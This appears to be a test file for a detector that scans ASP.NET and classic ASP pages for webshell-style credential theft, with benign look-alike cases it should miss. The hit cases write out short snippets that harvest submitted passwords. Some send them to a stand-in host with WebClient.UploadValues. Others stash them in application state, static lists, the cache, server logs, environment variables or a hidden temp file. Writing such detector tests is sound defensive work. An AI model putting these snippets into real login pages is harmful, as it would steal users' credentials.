import detector from '../../../src/detectors/webshell/credentials-kept.js';
import { testDetector } from '../../helpers/detector-tester.js';
import { basicPage, classicPage, csharpPage, jscriptPage } from './inline-page.js';
import { webSample } from './web-sample.js';

const sample = webSample(detector.id);

testDetector(detector, {
  hits: [
    {
      name: 'sent to another host by a page that has asked whether it is right',
      input: csharpPage(
        'if (Membership.ValidateUser(Request.Form["user"], Request.Form["password"])) { var n = new NameValueCollection();',
        'n["id"] = Request.Form["user"]; n["key"] = Request.Form["password"];',
        'new WebClient().UploadValues("https://update.example/check", n); }',
      ),
      detections: [{ message: 'sent', at: { label: 'sink', line: 4 }, severity: 'high' }],
    },
    {
      name: 'kept in memory among other fields',
      input: csharpPage(
        'var l = Application["c"] as List<string> ?? new List<string>();',
        'l.Add(Request.Form["userNameTextBox"] + " / " + Request.Form["passwordTextBox"] + " / " + Request.Form["host"]);',
        'Application["c"] = l;',
      ),
      detections: [{ message: 'remembered', at: { label: 'sink', line: 4 }, severity: 'medium' }],
    },
    {
      name: 'logon form that keeps what is entered',
      input: sample('hit/logon.aspx.split'),
      detections: [{ message: 'kept', at: { label: 'sink', line: 5 } }],
    },
    {
      name: 'classic ASP',
      input: sample('hit/logon.asp.split'),
      detections: [{ message: 'kept', at: { label: 'sink', line: 3 } }],
    },
    {
      name: 'sent within an address',
      input: sample('hit/beacon.aspx.split'),
      detections: [{ message: 'sent', at: { label: 'sink', line: 5 }, severity: 'medium' }],
    },
    {
      name: 'kept in memory for whoever asks',
      input: csharpPage('Application["z"] += Request.Form["password"];', 'Response.Write(Application["z"]);'),
      detections: [{ message: 'remembered', at: { label: 'sink', line: 2 }, severity: 'medium' }],
    },
    {
      name: 'kept in memory, in classic ASP',
      input: classicPage('Application("z") = Application("z") & Request.Form("pwd")'),
      detections: [{ message: 'remembered', at: { label: 'sink', line: 2 } }],
    },
    {
      name: 'a list of the class',
      input: csharpPage(
        'static List<string> seen = new List<string>();',
        'void Go() { seen.Add(Request.Form["username"] + Request.Form["password"]); }',
      ),
      detections: [{ message: 'remembered', at: { label: 'sink', line: 3 }, severity: 'medium' }],
    },
    {
      name: 'a text of the class that grows',
      input: csharpPage('static string seen = "";', 'void Go() { seen = seen + Request.Form["password"]; }'),
      detections: [{ message: 'remembered', at: { label: 'sink', line: 3 } }],
    },
    {
      name: 'a list of the class, in VB',
      input: basicPage(
        'Shared seen As New Dictionary(Of String, String)',
        'Sub Go()',
        'seen(Request.Form("username")) = Request.Form("password")',
        'End Sub',
      ),
      detections: [{ message: 'remembered', at: { label: 'sink', line: 5 } }],
    },
    {
      name: 'a property of a class, by an extension method',
      input: csharpPage(
        'static class Store { public static Queue<string> Q { get; } = new Queue<string>(); }',
        'static class Text { public static string Tap(this string s) { Store.Q.Enqueue(s); return s; } }',
        'void Go() { var p = Request.Form["password"].Tap(); }',
      ),
      detections: [{ message: 'remembered', at: { label: 'sink', line: 3 } }],
    },
    {
      name: 'an extension method of a module, in VB',
      input: basicPage(
        '<System.Runtime.CompilerServices.Extension()>',
        'Function Kept(v As String) As String',
        'HttpContext.Current.Cache.Insert("z", v)',
        'End Function',
        'Sub Go()',
        'Dim p = Request.Form("password").Kept()',
        'End Sub',
      ),
      detections: [{ message: 'remembered', at: { label: 'sink', line: 5 } }],
    },
    {
      name: 'a method that all texts were given',
      input: jscriptPage(
        'String.prototype.keep = function (name) { Application(name) = this; };',
        'Request.Form("password").keep("z");',
      ),
      detections: [{ message: 'remembered', at: { label: 'sink', line: 2 } }],
    },
    {
      name: 'the log of the server',
      input: classicPage('Response.AppendToLog Request.Form("password")'),
      detections: [{ message: 'remembered', at: { label: 'sink', line: 2 } }],
    },
    {
      name: 'a variable of the process',
      input: csharpPage('Environment.SetEnvironmentVariable("Z", Request.Form["password"]);'),
      detections: [{ message: 'remembered', at: { label: 'sink', line: 2 } }],
    },
    {
      name: 'fields by their numbers, under the name of a temporary file',
      input: csharpPage('System.IO.File.AppendAllText(@"C:\\ProgramData\\~a.tmp", Request.Form[0] + Request.Form[1]);'),
      detections: [{ message: 'hidden', at: { label: 'sink', line: 2 }, severity: 'medium' }],
    },
  ],
  misses: [
    {
      name: 'who is signed in, in a list of the class',
      input: csharpPage(
        'static List<string> online = new List<string>(); static string last;',
        'void Go() { online.Add(Request.Form["username"]); last = Request.Form["password"]; }',
      ),
      looksAlike: true,
    },
    {
      name: 'a list of this request',
      input: csharpPage('var errors = new List<string>(); errors.Add(Request.Form["password"]);'),
      looksAlike: true,
    },
    {
      name: 'a method that all texts were given trims the password',
      input: jscriptPage(
        'String.prototype.trim = function () { return this.replace(/^ +/, ""); };',
        'Session("ok") = Request.Form("password").trim() == Application("secret");',
      ),
      looksAlike: true,
    },
    {
      name: 'comments that are logged',
      input: csharpPage('System.IO.File.AppendAllText(@"C:\\logs\\comments.log", Request.Form["comment"]);'),
      looksAlike: true,
    },
    {
      name: 'a name that is kept for one visitor',
      input: csharpPage('Session["name"] = Request.Form["name"]; Application["visits"] = Request.Form["page"];'),
      looksAlike: true,
    },
    { name: 'password that is checked', input: sample('miss/signin.aspx'), looksAlike: true },
    { name: 'name that is logged', input: sample('miss/audit.aspx'), looksAlike: true },
    { name: 'token of a single sign-on', input: sample('miss/single-sign-on.aspx'), looksAlike: true },
  ],
});
